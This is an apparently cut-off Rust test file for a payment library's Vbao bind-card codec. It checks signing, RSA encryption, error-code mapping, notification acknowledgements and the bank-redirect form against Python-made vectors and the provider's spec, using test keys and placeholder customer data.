//! Vbao one-click bind card: both roles of `bindCard/create` and of the bind-result
//! notification, against Python-made vectors (spec/vectors/providers/vbao.json), the document's
//! examples, the spec file, every documented code, malformed input and the submit form.

mod replay_vectors;

use cardbind::cipher;
use cardbind::encoding::{decode_base64_lenient, encode_base64, HexCase};
use cardbind::model::validate::ValidationRule;
use cardbind::model::{BindCardApply, CardNumber, HttpRequest, HttpResponse, Operation, Phone, UnifiedRequest};
use cardbind::providers::vbao::codes::{CodeScope, EnvelopeCode, ErrCode, NotifyAck};
use cardbind::providers::vbao::{render_submit_form, VbaoProfile, BIND_CARD_CREATE, BIND_NOTIFY, SPEC_JSON};
use cardbind::providers::{VbaoCodec, VbaoConfig};
use cardbind::rng::SeededRng;
use cardbind::signature::md5_hex_sign;
use cardbind::spec::ProviderSpec;
use cardbind::{
    CanonicalRule, CaseRule, Codec, CodecError, Context, ErrorKind, KeyOrder, Outcome, OutcomeStatus, PrivateKey,
    SignatureAlgorithm, SignatureError,
};
use serde_json::{json, Map, Value};

macro_rules! key {
    ($name:literal) => {
        include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../spec/vectors/keys/", $name))
    };
}

const VBAO_PRIVATE_2048: &str = key!("test-rsa-2048-private-pkcs8.pem");
const VBAO_PUBLIC_2048: &str = key!("test-rsa-2048-public-spki.pem");
const VBAO_PRIVATE_1024: &str = key!("test-rsa-1024-private-pkcs8.pem");
const VBAO_PUBLIC_1024: &str = key!("test-rsa-1024-public-spki.pem");
const OTHER_PRIVATE_1024: &str = key!("test-rsa-1024b-private-pkcs8.pem");
const OTHER_PUBLIC_1024: &str = key!("test-rsa-1024b-public-spki.pem");
const VECTORS: &str = include_str!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../spec/vectors/providers/vbao.json"
));

const SIGN_KEY: &str = "test-vbao-signkey-0123456789abcdef";
const CUSTOMER_NO: &str = "202112090603";
const CREATE_URL: &str = "https://vbao.example.com/api/vborder/shortcut/bindCard/create";
const NOTIFY_URL: &str = "https://merchant.example.com/vbao/notify?a=1&b=2";

fn vectors() -> Value {
    serde_json::from_str(VECTORS).unwrap()
}

fn config() -> VbaoConfig {
    VbaoConfig {
        allow_unlisted_fields: false,
        customer_no: CUSTOMER_NO.into(),
        sign_key: SIGN_KEY.into(),
        their_public_key: None,
        our_private_key: None,
        base_url: "https://vbao.example.com/".into(),
        profile: VbaoProfile::default(),
    }
}

/// The merchant: holds Vbao's public key.
fn merchant_with(public_pem: &str) -> VbaoCodec {
    VbaoCodec::new(VbaoConfig {
        their_public_key: Some(public_pem.into()),
        ..config()
    })
    .unwrap()
}

/// Vbao (or a mock of it): holds its private key.
fn vbao_with(private_pem: &str) -> VbaoCodec {
    VbaoCodec::new(VbaoConfig {
        our_private_key: Some(private_pem.into()),
        ..config()
    })
    .unwrap()
}

fn merchant() -> VbaoCodec {
    merchant_with(VBAO_PUBLIC_2048)
}

/// A party that accepts and sends fields the spec does not list (`allow_unlisted_fields`).
fn opted_in(mut config: VbaoConfig) -> VbaoCodec {
    config.allow_unlisted_fields = true;
    VbaoCodec::new(config).unwrap()
}

fn merchant_opted_in() -> VbaoCodec {
    opted_in(VbaoConfig {
        their_public_key: Some(VBAO_PUBLIC_2048.into()),
        ..config()
    })
}

fn vbao_opted_in() -> VbaoCodec {
    opted_in(VbaoConfig {
        our_private_key: Some(VBAO_PRIVATE_2048.into()),
        ..config()
    })
}

fn vbao() -> VbaoCodec {
    vbao_with(VBAO_PRIVATE_2048)
}

fn rng() -> SeededRng {
    SeededRng::from_seed([7; 32])
}

fn obj(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        other => panic!("not an object: {other}"),
    }
}

fn create_params() -> Map<String, Value> {
    obj(json!({
        "orderNo": "2022090700001",
        "userType": "EMAIL",
        "identifyId": "zhangsan@example.com",
        "bankCardType": "CREDIT",
        "bankCode": "ICBC",
        "bankCardName": "张三",
        "certType": "ID",
        "certNo": "11010519491231002X",
        "mobile": "18812345678",
        "expiredTime": "2023-01-01 12:05:01",
        "bindNotifyUrl": NOTIFY_URL,
        "pageReturnUrl": "https://merchant.example.com/vbao/return"
    }))
}

fn notify_fields(code: &str) -> Map<String, Value> {
    obj(json!({
        "orderNo": "2022090700001",
        "errCode": code,
        "errMessage": "m",
        "bindCardId": "BID1",
        "bindNotifyUrl": NOTIFY_URL
    }))
}

/// A vector's `fields` without `sign` (and, for requests, without the codec-supplied customerNo).
fn unsigned(fields: &Value, drop_customer: bool) -> Map<String, Value> {
    let mut m = obj(fields.clone());
    m.remove("sign");
    if drop_customer {
        m.remove("customerNo");
    }
    m
}

/// The part of a vector's signed `fields` a verified message hands out: empty and null values
/// are not in the string to sign, so they are not returned.
fn signed_part(fields: &Value) -> Value {
    let mut m = obj(fields.clone());
    m.retain(|_, v| !(v.is_null() || v.as_str() == Some("")));
    Value::Object(m)
}

/// The first member holding an empty string, if any.
fn empty_field(fields: &Map<String, Value>) -> Option<String> {
    fields
        .iter()
        .find(|(_, v)| v.as_str() == Some(""))
        .map(|(k, _)| k.clone())
}

fn validation(err: &CodecError) -> (&str, &ValidationRule) {
    match err {
        CodecError::Validation(v) => (v.field.as_str(), &v.rule),
        other => panic!("expected a validation error, got {other:?}"),
    }
}

fn signature_source(err: &CodecError) -> &SignatureError {
    match err {
        CodecError::Signature { field, source, .. } => {
            assert_eq!(field, "sign");
            source
        }
        other => panic!("expected a signature error, got {other:?}"),
    }
}

/// `outcome` as decoded from a 200 reply, `authenticated` or not.
fn received(mut outcome: Outcome, authenticated: bool) -> Outcome {
    outcome.authenticated = authenticated;
    outcome.http_status = Some(200);
    outcome
}

fn malformed_field(err: &CodecError) -> &str {
    match err {
        CodecError::Malformed { field, .. } => field,
        other => panic!("expected a malformed error, got {other:?}"),
    }
}

/// A reply body as Vbao would send it, around an arbitrary business plaintext.
fn reply_around(plaintext: &[u8], private_pem: &str) -> HttpResponse {
    let key = PrivateKey::parse(private_pem).unwrap();
    let ct = cipher::rsa_private_encrypt_blocks(&key, &mut rng(), plaintext).unwrap();
    let data = json!({"customerNo": CUSTOMER_NO, "reqmsg": encode_base64(&ct)}).to_string();
    let body = json!({"code": "200", "success": true, "data": data, "msg": "操作成功"});
    HttpResponse::new(200, "application/json", body.to_string().into_bytes())
}

fn signed_plaintext(mut fields: Map<String, Value>) -> Vec<u8> {
    let pairs: Vec<(String, String)> = fields
        .iter()
        .map(|(k, v)| (k.clone(), v.as_str().unwrap().to_owned()))
        .collect();
    let canonical = CanonicalRule::sorted_pairs(KeyOrder::Bytewise)
        .build(pairs.iter().map(|(k, v)| (k.as_str(), Some(v.as_str()))))
        .unwrap();
    let sign = md5_hex_sign(&canonical, &[b"&key=", SIGN_KEY.as_bytes()], HexCase::Upper);
    fields.insert("sign".into(), Value::String(sign));
    Value::Object(fields).to_string().into_bytes()
}

fn decode_reply(response: &HttpResponse) -> Result<cardbind::DecodedResponse, CodecError> {
    merchant().decode_response(BIND_CARD_CREATE, response, &mut Context::new(&mut rng(), None))
}

fn reply_for(fields: &Map<String, Value>) -> HttpResponse {
    vbao()
        .encode_response(BIND_CARD_CREATE, fields, &mut Context::new(&mut rng(), None))
        .unwrap()
}

// ---------------------------------------------------------------------------------------------
// Spec agreement
// ---------------------------------------------------------------------------------------------

fn spec() -> ProviderSpec {
    ProviderSpec::from_json(SPEC_JSON).unwrap()
}

#[test]
fn spec_operations_are_exactly_the_codec_operations() {
    let spec = spec();
    assert_eq!(spec.provider, "vbao");
    let mut in_spec: Vec<&str> = spec.operations.iter().map(|o| o.name.as_str()).collect();
    let mut in_code = merchant().operations();
    in_spec.sort_unstable();
    in_code.sort_unstable();
    assert_eq!(in_spec, in_code);
    let create = spec.operation(BIND_CARD_CREATE).unwrap();
    assert_eq!(create.path, "/api/vborder/shortcut/bindCard/create");
    assert_eq!(create.method, "POST");
    // Each operation's unified name is the one to_wire maps onto it.
    for op in &spec.operations {
        let unified: Operation = serde_json::from_value(json!(op.unified)).unwrap();
        let request = UnifiedRequest::Other {
            operation: unified,
            fields: Map::new(),
        };
        assert_eq!(merchant().to_wire(&request).unwrap().0, op.name);
    }
}

fn status_name(status: &OutcomeStatus) -> String {
    serde_json::to_value(status).unwrap()["status"]
        .as_str()
        .unwrap()
        .to_owned()
}

fn status_kind(status: &OutcomeStatus) -> Option<ErrorKind> {
    match status {
        OutcomeStatus::Failed { kind, .. } => Some(*kind),
        _ => None,
    }
}

#[test]
fn every_spec_code_maps_to_the_same_outcome_in_code_and_back() {
    let spec = spec();
    for code in &spec.codes {
        let status = match code.scope.as_str() {
            "code" => EnvelopeCode::from_wire(&code.code).unwrap().status(),
            "create.errCode" => ErrCode::from_wire(&code.code).unwrap().status(CodeScope::Create),
            "notify.errCode" => ErrCode::from_wire(&code.code).unwrap().status(CodeScope::Notify),
            "notify.ack" => NotifyAck::ALL
                .into_iter()
                .find(|a| a.as_str() == code.code)
                .unwrap()
                .status(),
            other => panic!("unknown scope {other}"),
        };
        assert_eq!(status_name(&status), code.outcome, "{} {}", code.scope, code.code);
        assert_eq!(status_kind(&status), code.kind, "{} {}", code.scope, code.code);
    }
    let has = |scope: &str, wire: &str| spec.codes.iter().any(|c| c.scope == scope && c.code == wire);
    for c in ErrCode::ALL {
        assert!(has(CodeScope::Create.spec_scope(), c.as_str()), "{c:?} create");
        assert!(has(CodeScope::Notify.spec_scope(), c.as_str()), "{c:?} notify");
    }
    for c in EnvelopeCode::ALL {
        assert!(has("code", c.as_str()));
    }
    for a in NotifyAck::ALL {
        assert!(has("notify.ack", a.as_str()));
    }
}

#[test]
fn no_code_appears_twice_in_a_scope() {
    let spec = spec();
    let mut seen = std::collections::HashSet::new();
    for c in &spec.codes {
        assert!(seen.insert((c.scope.clone(), c.code.clone())), "{} {}", c.scope, c.code);
    }
}

#[test]
fn every_code_in_the_document_is_in_the_spec() {
    // The 错误码 table of vbao-shortcut-bind-card.html.
    const DOC_CODES: [&str; 9] = ["0000", "9999", "1001", "1002", "1003", "2001", "2002", "2104", "2106"];
    let spec = spec();
    for code in DOC_CODES {
        assert!(
            spec.codes.iter().any(|c| c.scope == "create.errCode" && c.code == code),
            "{code}"
        );
        assert!(ErrCode::from_wire(code).is_some(), "{code}");
    }
    assert_eq!(ErrCode::ALL.len(), DOC_CODES.len());
}

#[test]
fn every_field_and_enum_value_in_the_document_is_in_the_spec() {
    const DOC_REQUEST: [&str; 12] = [
        "orderNo",
        "userType",
        "identifyId",
        "bankCardType",
        "bankCode",
        "bankCardName",
        "certType",
        "certNo",
        "mobile",
        "expiredTime",
        "bindNotifyUrl",
        "pageReturnUrl",
    ];
    const DOC_RESPONSE: [&str; 9] = [
        "customerNo",
        "orderNo",
        "errCode",
        "errMessage",
        "submitUrl",
        "submitMethod",
        "encoding",
        "submitParams",
        "sign",
    ];
    let spec = spec();
    let create = spec.operation(BIND_CARD_CREATE).unwrap();
    let names = |fields: &[cardbind::spec::FieldSpec]| fields.iter().map(|f| f.name.clone()).collect::<Vec<_>>();
    assert_eq!(names(&create.request), DOC_REQUEST);
    assert_eq!(names(&create.response), DOC_RESPONSE);
    let values = |field: &str| {
        create
            .request
            .iter()
            .find(|f| f.name == field)
            .unwrap()
            .values
            .iter()
            .map(|v| v.value.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        values("userType"),
        [
            "IMEI",
            "MAC",
            "USER_ID",
            "EMAIL",
            "PHONE",
            "ID_CARD",
            "AGREEMENT_NO",
            "WECHAT"
        ]
    );
    assert_eq!(values("bankCardType"), ["CREDIT", "DEBIT"]);
    assert_eq!(
        values("certType"),
        [
            "ID",
            "OFFICERS",
            "PASSPORT",
            "REENTRY",
            "TAIWAN",
            "POLICE",
            "SOLDIER",
            "HM_VISITORPASS",
            "RESIDENCEBOOKLET",
            "TEMPIDCARD",
            "FR_CARD"
        ]
    );
}

/// Every request constraint in the spec is enforced: a missing required field is `Required`,
/// a missing optional one is accepted, one character over `max_length` is `MaxLength`, a value
/// outside `values` is `OneOf`.
#[test]
fn spec_request_constraints_are_what_the_encoder_enforces() {
    let spec = spec();
    let codec = merchant();
    let encode = |params: &Map<String, Value>| {
        codec.encode_request(BIND_CARD_CREATE, params, &mut Context::new(&mut rng(), None))
    };
    assert!(encode(&create_params()).is_ok());
    for field in &spec.operation(BIND_CARD_CREATE).unwrap().request {
        let mut params = create_params();
        params.remove(&field.name);
        match encode(&params) {
            Ok(_) => assert_eq!(field.required, json!(false), "{} may be omitted", field.name),
            Err(e) => {
                assert_eq!(field.required, json!(true), "{}", field.name);
                assert_eq!(validation(&e), (field.name.as_str(), &ValidationRule::Required));
            }
        }
        let max = field.max_length.unwrap();
        let mut params = create_params();
        params.insert(field.name.clone(), Value::String("1".repeat(max + 1)));
        let err = encode(&params).unwrap_err();
        assert_eq!(
            validation(&err),
            (field.name.as_str(), &ValidationRule::MaxLength { max }),
            "{}",
            field.name
        );
        if !field.values.is_empty() {
            let mut params = create_params();
            params.insert(field.name.clone(), json!("NOPE"));
            let err = encode(&params).unwrap_err();
            let allowed: Vec<String> = field.values.iter().map(|v| v.value.clone()).collect();
            assert_eq!(
                validation(&err),
                (field.name.as_str(), &ValidationRule::OneOf { allowed })
            );
            for v in &field.values {
                let mut params = create_params();
                params.insert(field.name.clone(), json!(v.value));
                if field.name == "userType" {
                    params.insert(
                        "identifyId".into(),
                        json!(match v.value.as_str() {
                            "PHONE" => "13900139000",
                            "ID_CARD" => "11010519491231002X",
                            "EMAIL" => "a@b.cn",
                            _ => "x-1",
                        }),
                    );
                }
                assert!(encode(&params).is_ok(), "{} = {}", field.name, v.value);
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Independent vectors
// ---------------------------------------------------------------------------------------------

#[test]
fn canonical_strings_and_md5_signatures_match_python_byte_for_byte() {
    let v = vectors();
    assert_eq!(v["sign_key"], SIGN_KEY);
    for section in ["requests", "responses", "notifications"] {
        for case in v[section].as_array().unwrap() {
            let fields = case["fields"].as_object().unwrap();
            let canonical = CanonicalRule::sorted_pairs(KeyOrder::Bytewise)
                .build(fields.iter().map(|(k, v)| (k.as_str(), v.as_str())))
                .unwrap();
            assert_eq!(
                String::from_utf8(canonical.clone()).unwrap(),
                case["canonical"],
                "{}",
                case["id"]
            );
            let sign = md5_hex_sign(&canonical, &[b"&key=", SIGN_KEY.as_bytes()], HexCase::Upper);
            assert_eq!(sign, case["sign"].as_str().unwrap(), "{}", case["id"]);
            assert_eq!(fields["sign"], case["sign"]);
        }
    }
}

#[test]
fn python_encrypted_requests_decrypt_and_verify_in_the_vbao_role() {
    for case in vectors()["requests"].as_array().unwrap() {
        let codec = match case["key"].as_str().unwrap() {
            "test-rsa-2048" => vbao_with(VBAO_PRIVATE_2048),
            "test-rsa-1024" => vbao_with(VBAO_PRIVATE_1024),
            other => panic!("{other}"),
        };
        let request = HttpRequest::post(CREATE_URL, "application/json", case["body"].as_str().unwrap().into());
        let decoded = codec
            .decode_request(&request, &mut Context::new(&mut rng(), None))
            .unwrap();
        assert_eq!(decoded.operation, BIND_CARD_CREATE);
        assert_eq!(
            Value::Object(decoded.fields),
            signed_part(&case["fields"]),
            "{}",
            case["id"]
        );
        assert_eq!(decoded.signature, cardbind::model::SignatureCheck::Verified);
        let id = case["id"].as_str().unwrap();
        let replay = replay_vectors::expected("vbao", "requests", id);
        assert!(replay.is_some(), "{id}: the generator lists every signed request");
        assert_eq!(decoded.replay_key, replay, "{id}: replay key");
    }
    assert_eq!(
        vectors()["requests"].as_array().unwrap().len(),
        replay_vectors::count("vbao")
    );
}

#[test]
fn rust_encrypted_requests_carry_python_identical_plaintext_in_python_sized_blocks() {
    for case in vectors()["requests"].as_array().unwrap() {
        let (public, private) = match case["key"].as_str().unwrap() {
            "test-rsa-2048" => (VBAO_PUBLIC_2048, VBAO_PRIVATE_2048),
            _ => (VBAO_PUBLIC_1024, VBAO_PRIVATE_1024),
        };
        let params = unsigned(&case["fields"], true);
        // Vbao signs no empty value: encoding one is refused, naming it (the spec's empty_values);
        // without it the plaintext is Python's minus that unsigned member.
        if let Some(empty) = empty_field(&params) {
            let err = merchant_with(public)
                .encode_request(BIND_CARD_CREATE, &params, &mut Context::new(&mut rng(), None))
                .unwrap_err();
            assert_eq!(validation(&err), (empty.as_str(), &ValidationRule::EmptyNotSigned));
            continue;
        }
        let request = merchant_with(public)
            .encode_request(BIND_CARD_CREATE, &params, &mut Context::new(&mut rng(), None))
            .unwrap();
        assert_eq!(request.url, CREATE_URL);
        assert_eq!(request.header("content-type"), Some("application/json;charset=utf-8"));
        let body: Value = serde_json::from_slice(&request.body).unwrap();
        assert_eq!(body["customerNo"], CUSTOMER_NO);
        let ct = decode_base64_lenient("reqmsg", body["reqmsg"].as_str().unwrap().as_bytes()).unwrap();
        assert_eq!(
            ct.len(),
            usize::try_from(case["blocks"].as_u64().unwrap() * case["block_cipher"].as_u64().unwrap()).unwrap()
        );
        let key = PrivateKey::parse(private).unwrap();
        let plain = cipher::rsa_decrypt_blocks(&key, &mut rng(), &ct).unwrap();
        assert_eq!(
            String::from_utf8(plain).unwrap(),
            case["business_json"].as_str().unwrap(),
            "{}",
            case["id"]
        );
        // And the Vbao role reads it back.
        let decoded = vbao_with(private)
            .decode_request(&request, &mut Context::new(&mut rng(), None))
            .unwrap();
        assert_eq!(Value::Object(decoded.fields), signed_part(&case["fields"]));
    }
}

#[test]
fn rust_replies_equal_python_replies_byte_for_byte_and_decode_in_the_merchant_role() {
    // The vectors' replies carry a field the spec does not list (traceId): both sides opt in.
    let mut r = rng();
    for case in vectors()["responses"].as_array().unwrap() {
        let response = vbao_opted_in()
            .encode_response(
                BIND_CARD_CREATE,
                &unsigned(&case["fields"], false),
                &mut Context::new(&mut r, None),
            )
            .unwrap();
        assert_eq!(
            String::from_utf8(response.body.clone()).unwrap(),
            case["body"].as_str().unwrap(),
            "{}",
            case["id"]
        );
        let python = HttpResponse::new(200, "application/json", case["body"].as_str().unwrap().into());
        let decoded = merchant_opted_in()
            .decode_response(BIND_CARD_CREATE, &python, &mut Context::new(&mut r, None))
            .unwrap();
        assert_eq!(Value::Object(decoded.fields.clone()), signed_part(&case["fields"]));
        assert_eq!(decoded.signature, cardbind::model::SignatureCheck::Verified);
        match case["id"].as_str().unwrap() {
            "create-doc-example" => {
                assert_eq!(
                    decoded.outcome,
                    Outcome {
                        status: OutcomeStatus::Pending,
                        provider_code: "0000".into(),
                        provider_message: Some("成功".into()),
                        authenticated: true,
                        http_status: Some(200),
                    }
                );
                // The document's own submitUrl has no scheme: the form refuses it.
                let err = VbaoCodec::submit_form(&decoded).unwrap_err();
                assert_eq!(validation(&err), ("submitUrl", &ValidationRule::HttpUrl));
            }
            "create-2104-unknown-field" => {
                assert_eq!(decoded.outcome.error_kind(), Some(ErrorKind::DuplicateOrder));
                assert_eq!(decoded.fields["traceId"], "T-77", "unlisted fields are kept and signed");
                // Without the opt-in, the same reply is refused (the kit's unlisted-field rule).
                let err = decode_reply(&python).unwrap_err();
                assert_eq!(malformed_field(&err), "reqmsg.traceId");
            }
            other => panic!("{other}"),
        }
    }
}

#[test]
fn rust_notifications_equal_python_ones_byte_for_byte_and_decode_in_the_merchant_role() {
    for case in vectors()["notifications"].as_array().unwrap() {
        let mut params = unsigned(&case["fields"], false);
        params.insert("bindNotifyUrl".into(), json!(NOTIFY_URL));
        if let Some(empty) = empty_field(&params) {
            // Python sent an unsigned empty member; Rust refuses to (the spec's empty_values).
            let err = vbao()
                .encode_request(BIND_NOTIFY, &params, &mut Context::new(&mut rng(), None))
                .unwrap_err();
            assert_eq!(validation(&err), (empty.as_str(), &ValidationRule::EmptyNotSigned));
        } else {
            let request = vbao()
                .encode_request(BIND_NOTIFY, &params, &mut Context::new(&mut rng(), None))
                .unwrap();
            assert_eq!(request.url, NOTIFY_URL);
            assert_eq!(
                String::from_utf8(request.body).unwrap(),
                case["body"].as_str().unwrap(),
                "{}",
                case["id"]
            );
        }

        let python = HttpRequest::post(NOTIFY_URL, "application/json", case["body"].as_str().unwrap().into());
        let decoded = merchant()
            .decode_request(&python, &mut Context::new(&mut rng(), None))
            .unwrap();
        assert_eq!(decoded.operation, BIND_NOTIFY);
        assert_eq!(Value::Object(decoded.fields.clone()), signed_part(&case["fields"]));
        let outcome = VbaoCodec::notification_outcome(&decoded).unwrap();
        match case["id"].as_str().unwrap() {
            "notify-success" => assert_eq!(outcome, Outcome::succeeded("0000", Some("成功".into()))),
            "notify-2002" => assert_eq!(
                outcome.status,
                OutcomeStatus::Failed {
                    kind: ErrorKind::ProviderUnavailable,
                    retryable: false
                }
            ),
            other => panic!("{other}"),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Round trips and outcomes
// ---------------------------------------------------------------------------------------------

#[test]
fn create_round_trips_in_both_roles() {
    let mut r = rng();
    let request = merchant()
        .encode_request(BIND_CARD_CREATE, &create_params(), &mut Context::new(&mut r, None))
        .unwrap();
    let received = vbao()
        .decode_request(&request, &mut Context::new(&mut r, None))
        .unwrap();
    let mut expected = create_params();
    for (k, v) in &expected {
        assert_eq!(&received.fields[k], v);
    }
    expected.insert("customerNo".into(), json!(CUSTOMER_NO));
    assert_eq!(received.fields.len(), expected.len() + 1, "plus sign");

    let reply = vbao()
        .encode_response(
            BIND_CARD_CREATE,
            &obj(json!({
                "orderNo": received.fields["orderNo"],
                "errCode": "0000",
                "errMessage": "成功",
                "submitUrl": "https://bank.example.com/bind",
                "submitMethod": "post",
                "encoding": "UTF-8",
                "submitParams": "{\"epccGwMsg\":\"<xml a='1'>&</xml>\"}"
            })),
            &mut Context::new(&mut r, None),
        )
        .unwrap();
    let decoded = decode_reply(&reply).unwrap();
    assert_eq!(decoded.outcome.status, OutcomeStatus::Pending);
    assert_eq!(
        VbaoCodec::submit_form(&decoded).unwrap(),
        "<form name=\"unionpay_punchout_form\" method=\"POST\" action=\"https://bank.example.com/bind\" accept-charset=\"UTF-8\">\n\
         <input type=\"hidden\" name=\"epccGwMsg\" value=\"&lt;xml a=&#39;1&#39;&gt;&amp;&lt;/xml&gt;\">\n\
         </form>\n\
         <script>HTMLFormElement.prototype.submit.call(document.forms[\"unionpay_punchout_form\"]);</script>\n"
    );
}

#[test]
fn every_documented_err_code_decodes_to_its_unified_outcome_in_both_messages() {
    use ErrorKind as K;
    let expected: [(&str, Option<(K, bool)>); 9] = [
        ("0000", None),
        ("9999", Some((K::Rejected, false))),
        ("1001", Some((K::ProviderUnavailable, true))),
        ("1002", Some((K::InvalidParameter, false))),
        ("1003", Some((K::InvalidParameter, false))),
        ("2001", Some((K::MerchantMisconfigured, false))),
        ("2002", Some((K::ProviderUnavailable, false))),
        ("2104", Some((K::DuplicateOrder, false))),
        ("2106", Some((K::OrderNotFound, false))),
    ];
    for (code, failure) in expected {
        let status_for = |success: OutcomeStatus| match failure {
            None => success,
            Some((kind, retryable)) => OutcomeStatus::Failed { kind, retryable },
        };
        // Reply to bindCard/create, through both roles.
        let reply = reply_for(&obj(json!({"orderNo": "o1", "errCode": code, "errMessage": "说明"})));
        let decoded = decode_reply(&reply).unwrap();
        assert_eq!(
            decoded.outcome,
            Outcome {
                status: status_for(OutcomeStatus::Pending),
                provider_code: code.into(),
                provider_message: Some("说明".into()),
                authenticated: true,
                http_status: Some(200),
            },
            "create {code}"
        );
        // Notification, through both roles.
        let mut fields = notify_fields(code);
        if code != "0000" {
            fields.remove("bindCardId");
        }
        let request = vbao()
            .encode_request(BIND_NOTIFY, &fields, &mut Context::new(&mut rng(), None))
            .unwrap();
        let received = merchant()
            .decode_request(&request, &mut Context::new(&mut rng(), None))
            .unwrap();
        assert_eq!(
            VbaoCodec::notification_outcome(&received).unwrap().status,
            status_for(OutcomeStatus::Succeeded),
            "notify {code}"
        );
    }
}

#[test]
fn unknown_err_codes_are_unknown_with_the_code_kept() {
    let decoded = decode_reply(&reply_for(&obj(
        json!({"orderNo": "o", "errCode": "3333", "errMessage": "新"}),
    )))
    .unwrap();
    assert_eq!(
        decoded.outcome,
        received(Outcome::failed(ErrorKind::Unknown, "3333", Some("新".into())), true)
    );
}

#[test]
fn undocumented_envelope_codes_and_success_false_are_unknown_failures() {
    let body = json!({"code": "500", "success": false, "msg": "系统繁忙", "data": null}).to_string();
    let decoded = decode_reply(&HttpResponse::new(200, "application/json", body.into_bytes())).unwrap();
    assert_eq!(
        decoded.outcome,
        // An envelope error is unsigned: nothing in it is authenticated.
        received(
            Outcome::failed(ErrorKind::Unknown, "500", Some("系统繁忙".into())),
            false
        )
    );
    assert!(decoded.fields.is_empty());
    let body = json!({"code": 200, "success": false, "msg": "x"}).to_string();
    let decoded = decode_reply(&HttpResponse::new(200, "application/json", body.into_bytes())).unwrap();
    assert_eq!(
        decoded.outcome,
        received(Outcome::failed(ErrorKind::Unknown, "200", Some("x".into())), false)
    );
    let decoded = decode_reply(&HttpResponse::new(
        502,
        "text/html",
        b"<html>Bad Gateway</html>".to_vec(),
    ))
    .unwrap();
    assert_eq!(
        decoded.outcome,
        Outcome::transport_failure(
            502,
            "HTTP 502 with a text/html body of 24 bytes: the provider or a proxy failed"
        )
    );
}

#[test]
fn data_may_arrive_as_an_object_instead_of_a_json_string() {
    let reply = reply_for(&obj(json!({"orderNo": "o", "errCode": "1002", "errMessage": "e"})));
    let mut outer: Value = serde_json::from_slice(&reply.body).unwrap();
    let data: Value = serde_json::from_str(outer["data"].as_str().unwrap()).unwrap();
    outer["data"] = data;
    let decoded = decode_reply(&HttpResponse::new(
        200,
        "application/json",
        outer.to_string().into_bytes(),
    ))
    .unwrap();
    assert_eq!(decoded.outcome.error_kind(), Some(ErrorKind::InvalidParameter));
}

#[test]
fn notification_ack_round_trips_and_maps_every_answer() {
    let mut r = rng();
    let merchant = merchant();
    let vbao = vbao();
    let ack = |fields: Value| merchant.encode_response(BIND_NOTIFY, &obj(fields), &mut Context::new(&mut rng(), None));
    let ok = ack(json!({})).unwrap();
    assert_eq!(ok.body, b"SUCCESS");
    assert_eq!(ok.header("content-type"), Some("text/plain;charset=utf-8"));
    let decoded = vbao
        .decode_response(BIND_NOTIFY, &ok, &mut Context::new(&mut r, None))
        .unwrap();
    assert_eq!(decoded.outcome, received(Outcome::succeeded("SUCCESS", None), false));
    let fail = ack(json!({"result": "FAIL"})).unwrap();
    assert_eq!(fail.body, b"FAIL");
    let decoded = vbao
        .decode_response(BIND_NOTIFY, &fail, &mut Context::new(&mut r, None))
        .unwrap();
    assert_eq!(
        decoded.outcome,
        received(Outcome::failed(ErrorKind::Rejected, "FAIL", None), false)
    );
    assert_eq!(validation(&ack(json!({"result": "MAYBE"})).unwrap_err()).0, "result");
    assert_eq!(
        validation(&ack(json!({"other": "x"})).unwrap_err()),
        ("other", &ValidationRule::UnknownField)
    );
    let odd = HttpResponse::new(200, "text/plain", b" ok \r\n".to_vec());
    let decoded = vbao
        .decode_response(BIND_NOTIFY, &odd, &mut Context::new(&mut r, None))
        .unwrap();
    assert_eq!(
        decoded.outcome,
        received(Outcome::failed(ErrorKind::Unknown, "ok", None), false)
    );
    let down = HttpResponse::new(503, "text/plain", Vec::new());
    let decoded = vbao
        .decode_response(BIND_NOTIFY, &down, &mut Context::new(&mut r, None))
        .unwrap();
    assert_eq!(
        decoded.outcome,
        Outcome::transport_failure(503, "HTTP 503 with an empty body: the provider or a proxy failed")
    );
    let page = HttpResponse::new(200, "text/html", "<html>".repeat(20).into_bytes());
    let decoded = vbao
        .decode_response(BIND_NOTIFY, &page, &mut Context::new(&mut r, None))
        .unwrap();
    assert_eq!(
        decoded.outcome,
        Outcome::transport_failure(200, "HTTP 200 with a body that is not a plain-text answer")
    );
    let long = HttpResponse::new(200, "text/plain", "ok".repeat(40).into_bytes());
    let err = vbao
        .decode_response(BIND_NOTIFY, &long, &mut Context::new(&mut r, None))
        .unwrap_err();
    assert_eq!(malformed_field(&err), "body");
}

#[test]
fn the_ack_text_is_a_profile_override() {
    let mut cfg = config();
    cfg.their_public_key = Some(VBAO_PUBLIC_2048.into());
    cfg.our_private_key = Some(VBAO_PRIVATE_2048.into());
    cfg.profile.notify_ack = "success".into();
    let codec = VbaoCodec::new(cfg).unwrap();
    let mut r = rng();
    let ack = codec
        .encode_response(BIND_NOTIFY, &Map::new(), &mut Context::new(&mut r, None))
        .unwrap();
    assert_eq!(ack.body, b"success");
    let decoded = codec
        .decode_response(BIND_NOTIFY, &ack, &mut Context::new(&mut r, None))
        .unwrap();
    assert!(decoded.outcome.is_success());
    let upper = HttpResponse::new(200, "text/plain", b"SUCCESS".to_vec());
    let decoded = codec
        .decode_response(BIND_NOTIFY, &upper, &mut Context::new(&mut r, None))
        .unwrap();
    assert_eq!(decoded.outcome.error_kind(), Some(ErrorKind::Unknown));
}

// ---------------------------------------------------------------------------------------------
// The document's examples
// ---------------------------------------------------------------------------------------------

/// The document's 返回示例, verbatim (HTML entities undone). Its `reqmsg` was made with Vbao's
/// real private key, which no test has: the envelope parses, and recovery under a test key fails
/// with a typed error instead of yielding garbage.
